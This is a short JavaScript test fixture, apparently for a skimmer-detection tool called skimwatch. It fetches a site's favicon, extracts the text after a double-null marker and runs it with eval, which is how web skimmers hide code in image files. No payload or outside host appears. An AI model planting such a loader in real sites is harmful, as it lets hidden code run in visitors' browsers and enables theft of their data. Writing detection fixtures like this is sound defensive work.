// Synthetic loader for skimwatch tests: code hidden in a favicon, run with eval.
fetch("/media/favicon/default/favicon.ico", { cache: "no-store" })
  .then(function (r) { return r.text(); })
  .then(function (t) {
    var i = t.lastIndexOf("\u0000\u0000");
    eval(t.slice(i + 2));
  });
